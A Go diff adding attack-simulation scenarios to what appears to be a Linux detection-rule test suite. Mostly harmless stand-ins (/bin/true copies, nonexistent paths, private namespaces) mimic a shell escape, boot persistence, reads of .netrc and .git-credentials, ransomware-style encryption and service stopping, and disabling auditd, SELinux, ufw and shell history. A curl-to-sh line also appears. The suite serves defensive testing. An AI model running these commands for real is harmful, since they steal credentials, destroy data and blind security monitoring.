@@ -90,6 +90,15 @@ var all = []Scenario{
 		Run: func(e *Env) error {
 			return e.run("/bin/bash", "-c", "curl -fsS http://127.0.0.1:1/x 2>/dev/null | sh; exit 0")
 		}},
+	{Name: "shell-escape", Desc: "a copy of bash named awk starts an interactive /bin/sh on /dev/null (not a terminal), as awk's system() does",
+		Rules: []string{"Interactive shell escaped from a program"},
+		Run: func(e *Env) error {
+			awk, err := e.copyExe("/bin/bash", "awk")
+			if err != nil {
+				return err
+			}
+			return e.run(awk, "-c", "/bin/sh < /dev/null; exit 0")
+		}},
 	{Name: "tmp-build", Desc: "a copy of cp named ld writes a program into the temporary directory, which is then run (informational: a build's output)",
 		Rules: []string{"Freshly built program executed from a temporary directory"},
 		Run: func(e *Env) error {
@@ -151,6 +160,11 @@ var all = []Scenario{
 			"Shell profile modified", "Dynamic linker preload file written", "Account database written directly",
 			"Sudoers modified", "PAM configuration modified", "SSH server configuration modified"},
 		"cron", "at", "systemd", "authkeys", "profile", "preload", "passwd", "sudoers", "pam", "sshd"),
+	sandboxed("boot-persistence", "a motd script renamed into place, a udev rule linked in, an XDG autostart entry, a systemd generator, a PAM module and a root certificate, in a private mount namespace",
+		[]string{"Boot or login script written", "PAM module written", "Root certificate added to the trust store"},
+		"boot", "pammod", "rootca"),
+	sandboxed("credential-read", "a .netrc read by cat and a .git-credentials by base64, in a private mount namespace",
+		[]string{"Credential file read by a shell, interpreter or generic tool"}, "credread"),
 	toolRun("account-tool", "useradd run (a /bin/true copy)", []string{"User account tool executed"}, "useradd", "-m", "vigil-simulated"),
 	{Name: "kernel-module", Desc: "finit_module of an invalid module",
 		Rules:       []string{"Kernel module loaded"},
@@ -301,6 +315,41 @@ var all = []Scenario{
 				}
 			}
 			return nil
+		}},
+	{Name: "impact-burst", Desc: "/bin/true copies: systemctl stopping five services, 7z with a password ten times, ccencrypt over a directory, passwd expiring another account; and 100 scratch files renamed to a new extension",
+		Rules: []string{"Services stopped or disabled in a burst", "Files encrypted in a burst", "Directory encrypted in one command",
+			"Password changed or account locked for another user", "Files renamed to a new extension in a burst"},
+		Run: func(e *Env) error {
+			for _, svc := range []string{"postgresql", "mysql", "docker", "backup", "cron"} {
+				if err := e.runTool("systemctl", "stop", svc+".service"); err != nil {
+					return err
+				}
+			}
+			for i := 0; i < 10; i++ {
+				if err := e.runTool("7z", "a", "-pvigil", fmt.Sprintf("/nonexistent/%d.7z", i), fmt.Sprintf("/nonexistent/%d", i)); err != nil {
+					return err
+				}
+			}
+			if err := e.runTool("ccencrypt", "-rf", "-K", "vigil", "/nonexistent"); err != nil {
+				return err
+			}
+			if err := e.runTool("passwd", "-e", "vigil-simulated"); err != nil {
+				return err
+			}
+			return e.child("massrename", filepath.Join(e.Dir, "docs"), "110")
+		}},
+	{Name: "defense-off", Desc: "/bin/true copies: auditctl -e 0, setenforce Permissive, ufw --force disable; a shell clearing HISTFILE; a python history linked to /dev/null in a private mount namespace",
+		Rules: []string{"Security tooling disabled", "Shell history disabled", "Shell history deleted or truncated"},
+		Run: func(e *Env) error {
+			for _, c := range [][]string{{"auditctl", "-e", "0"}, {"setenforce", "Permissive"}, {"ufw", "--force", "disable"}} {
+				if err := e.runTool(c[0], c[1:]...); err != nil {
+					return err
+				}
+			}
+			if err := e.run("/bin/bash", "-c", "HISTFILE= ; exit 0"); err != nil {
+				return err
+			}
+			return e.sandbox("histlink")
 		}},
 	toolRun("miner", "xmrig run (a /bin/true copy)", []string{"Crypto miner executed"}, "xmrig", "-o", "stratum+tcp://127.0.0.1:3333"),
 	toolRun("shred", "shred run (a /bin/true copy)", []string{"Secure deletion tool executed"}, "shred", "-u", "nothing"),
